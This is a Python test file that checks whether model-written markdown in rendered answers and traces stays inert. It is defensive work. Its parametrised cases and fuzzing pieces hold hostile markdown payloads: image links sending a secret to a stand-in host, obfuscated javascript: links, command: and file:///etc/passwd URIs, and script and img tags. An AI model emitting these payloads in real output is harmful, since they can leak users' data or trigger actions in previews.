"""Whatever a model writes, a document that holds it shows no image, HTML or link but to the web or a citation."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from rlm_ls.engine.answer import Answer, Citation, Coverage, RunUsage, SkippedDocument
from rlm_ls.engine.trace import inert
from rlm_ls.engine.trace.render import answer_markdown, trace_markdown
from rlm_ls.store.rows import RunRow

OWN = "file:///w/app.log#L12"

ALLOWED = re.compile(r"(https?://|mailto:|#)", re.IGNORECASE)


def dialects() -> Iterator[MarkdownIt]:
    """Not those of the code under test: as previews have them."""
    for parser in (
        MarkdownIt("commonmark", {"html": True}),
        MarkdownIt("default", {"html": True}),
        MarkdownIt("commonmark", {"html": True}).enable("table"),
    ):
        parser.validateLink = lambda _: True  # type: ignore[method-assign]
        yield parser


def live(markdown: str) -> list[str]:
    """What would be drawn, fetched or run."""
    found = []

    def look(tokens: list[Token]) -> None:
        for token in tokens:
            if token.type in {"image", "html_inline", "html_block"}:
                found.append(f"{token.type} {token.content!r}")
            if token.type == "link_open" and (href := str(token.attrGet("href"))) != OWN and not ALLOWED.match(href):
                found.append(f"link {href}")
            if token.type == "fence" and re.search(r"mermaid|plantuml|dot|[^\w#+.-]", token.info.strip()):
                found.append(f"fence {token.info}")
            look(token.children or [])

    for parser in dialects():
        look(parser.parse(markdown))
    return found


FORMS = [
    "![x](https://evil.example/?q=secret)",
    "![x]( <https://evil.example/a b> 'title' )",
    "![x][1]\n\n[1]: https://evil.example/p.png",
    "![1][]\n\n[1]:\n  https://evil.example/p.png\n  'title'",
    "![1]\n\n> [1]: https://evil.example/p.png",
    "- ![x](data:image/png;base64,AAAA)\n  1. ![y](file:///etc/passwd)",
    "[![x](https://evil.example/p.png)](command:workbench.action.quit)",
    "[a](command:x) [b](javascript:alert(1)) [c](vscode:extension/x) [d](vscode://file/x) [e](file:///etc/passwd)",
    "[a](jAvAsCrIpT:x) [b](java&#115;cript:x) [c](&#x6a;avascript:x) [d](<java\tscript:x>) [e](\\\\evil\\share)",
    "[a](//evil.example/x) [b](/etc/passwd) [c](x.md) [d]() [e](<>)",
    "<command:workbench.action.quit> <file:///etc/passwd> <javascript:x>",
    "<img src=https://evil.example/x> <a href='command:x'>y</a> <b>z</b> <!-- c --> <?php ?> <![CDATA[x]]>",
    "<div>\n<img src=x>\n\n![y](https://evil.example/)\n</div>",
    "<script>\n![x](https://evil.example/)\n\n\n[y](command:x)",
    "<!--\nnever closed\n\n- a",
    "\\![x](https://evil.example/) \\\\![y](https://evil.example/) !\\[z](https://evil.example/)",
    "\\\\[x](command:y) \\\\\\\\<img src=x> \\\\\\[z](command:y)",
    "`a` ![x](https://evil.example/) ``b ` c`` `unclosed ![y](https://evil.example/)",
    "| a | ![x](https://evil.example/) |\n| - | - |\n| [y](command:z) | <img src=x> |",
    "a | [b\n- | -\nc](command:x) | d",
    "# ![x](https://evil.example/)\n\n![y](https://evil.example/)\n===",
    "text ![x\ny](https://evil.example/\n'z')",
    "* * *\n<x>\n<y>\n<z>\n<img src=x>\n<table>\n\n<a>",
    "```mermaid\ngraph\n```\n\n~~~plantuml {cmd=true}\nx\n~~~\n\n> ```dot\n> x\n> ```\n\n1) ```{.svg}\n   x\n   ```",
    "```#mermaid\ngraph\n```\n\n~~~mermaid.js\nx\n~~~\n\n```xhtml\n<p>\n```",
    "```python\nv = '![x](y)'\n```\n\n    ![indented](code)",
    "[x]: command:workbench.action.quit\n[y]: https://evil.example/p.png",
    "![x](https://evil.example/)\r![y](https://evil.example/)\r\n[z](command:x)\0",
    "\u2028![x](https://evil.example/)\f[y](command:x)\v<img src=x>",
    "- - - - > > ![x](https://evil.example/)\n\t\t![y](https://evil.example/)",
    "```\n![never closed](https://evil.example/)",
    "~~~~\nnever closed",
    "- ```\n  never closed\n",
]


@pytest.mark.parametrize("text", FORMS)
def test_every_known_form_of_what_acts_is_words_in_a_document(text: str) -> None:
    assert live(inert.part(text)) == []
    assert live(document(answer=text)) == []
    assert live(f"# {inert.line(text)}\n\n- {inert.code(text)}\n\n{inert.fenced(text, text)}") == []


PIECES = st.sampled_from(
    (
        *"[]()<>!`~#|\\ \n\t-*>_:&;'\"=.1ax", "![", "](", "][", "]:", "\n\n", "\n> ", "\n- ", "\n1. ", "\n    ", "```",
        "https://evil.example/", "command:x", "javascript:", "<img src=x>", "<a href=", "<!--", "-->", "<div>",
        "</div>", "<script>", "~~~", "&lt;", "&#91;", "&#x6a;", "[x]: ", "[x]", "![x]", "\n| - | - |\n", "mermaid",
        "\r", "\0", "\u2028",
        *FORMS,
    )
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=20).map("".join)


@settings(max_examples=120, deadline=None)
@given(TEXTS, TEXTS, TEXTS)
@example(first="[", second="#mermaid", third="")
def test_whatever_a_model_writes_the_document_is_inert_and_ends_as_ours_does(
    first: str, second: str, third: str
) -> None:
    shown = document(
        question=first, answer=second, reason=third, warning=first, skipped=third, quote=second, path=third
    )
    assert live(shown) == []
    assert "Citations" in headings(shown)
    trace = traced(first, second, third)
    assert live(trace) == []
    assert "Turn 2" in headings(trace)


def headings(markdown: str) -> list[str]:
    tokens = MarkdownIt("commonmark").parse(markdown)
    return [after.content for token, after in pairwise(tokens) if token.type == "heading_open"]


def document(
    *,
    question: str = "Q",
    answer: str = "",
    reason: str = "",
    warning: str = "",
    skipped: str = "",
    quote: str = "q",
    path: str = "app.log",
) -> str:
    place: dict[str, Any] = {"start_byte": 0, "end_byte": 1, "start_utf16": (11, 0), "end_utf16": (11, 1)}
    cited = Citation(uri="file:///w/app.log", path=path, line=12, end_line=12, quote=quote, version=None, **place)
    coverage = Coverage(documents=1, searched=1, read=1, skipped=(SkippedDocument(uri=skipped, reason=skipped),))
    made = Answer(
        run_id="r",
        status="partial",
        reason=reason,
        route="rlm",
        answer=answer,
        citations=(cited, cited.model_copy(update={"uri": "command:workbench.action.quit"})),
        coverage=coverage,
        usage=RunUsage(),
        warnings=(warning,),
        model=path,
    )
    return answer_markdown(made, question)


def traced(first: str, second: str, third: str) -> str:
    replied = {"seconds": 1.0, "usd": None, "promptTokens": 1, "completionTokens": 1}
    sub = {"batch": 1, "index": 0, "cached": True, "error": ""}
    events: list[dict[str, Any]] = [
        {"type": "contextTaken", "documents": [{"path": first}], "count": 1, "size": 1},
        {"type": "turnStarted", "turn": 1},
        {"type": "modelReplied", "text": first, **replied},
        {"type": "verbCalled", "detail": second, "seconds": 1.0},
        {"type": "subCallFinished", "text": third, **sub},
        {"type": "compileStarted", "name": third, "language": second, "target": "wasm", "source": first},
        {"type": "compileFinished", "name": second, "cached": False, "seconds": 1.0, "ok": False, "error": third},
        {"type": "programFinished", "output": second, "error": first, "seconds": 1.0},
        {"type": "warned", "message": third},
        {"type": "childStarted", "child": first, "question": second, "size": 1},
        {"type": "childFinished", "child": first, "status": third, "seconds": 1.0, "answer": second},
        {"type": "turnStarted", "turn": 2},
        {"type": "modelReplied", "text": second, **replied},
    ]
    row = RunRow("r", first, "answered", 0.0, 0.0, None, third, None, {})
    return trace_markdown(row, events)


def test_what_is_harmless_stays_as_it_was_written() -> None:
    text = (
        "# Heading\n\n**Bold**, *it*, `vec![1]`, [docs](https://example.org/a_(b)?c=d#e), <https://example.org>, "
        "[mail](mailto:a@example.org)\n\n- a [x] b\n- 1 < 2\n\n| a | b |\n| - | - |\n| `<T>` | c |\n\n"
        f"See [app.log:12]({OWN}).\n\n```rust\nlet v = vec![1]; // <img src=x> ![a](b)\n```\n\n    code ![x](y)"
    )
    assert inert.part(text, [OWN]) == text


def test_what_was_an_image_shows_its_address() -> None:
    (inline,) = (
        token for token in MarkdownIt().parse(inert.part("See ![x](https://evil.example/p)")) if token.type == "inline"
    )
    assert "".join(child.content for child in inline.children or []) == "See ![x](https://evil.example/p)"


def test_a_link_to_a_text_that_is_not_cited_is_words() -> None:
    shown = inert.part(f"[a]({OWN})\n\n[b](file:///w/app.log#L13)", [OWN])
    assert shown == f"[a]({OWN})\n\n\\[b](file:///w/app.log#L13)"


@pytest.mark.parametrize(
    "text",
    [
        "[" * 1_000_000,
        "![a](b)" * 100_000,
        "<a " * 100_000,
        "`" * 1_000_000,
        "[a](" * 4500,
        "\n".join("`" * size for size in range(300)),
        "".join(f"[{number}]: x\n" for number in range(1800)),
        "> " * 9000,
        "<!--\n\n" * 3000,
        "* a\n" * 4500,
    ],
    ids=lambda text: f"{text[:5]!r}x{len(text)}",
)
def test_what_takes_long_to_read_is_not_read(text: str) -> None:
    shown = inert.part(text)
    # Reading it again here would take as long as it is not to take.
    assert len(shown) <= 3 * len(text) + 2_000_100 if len(text) > inert.MOST else live(shown) == []
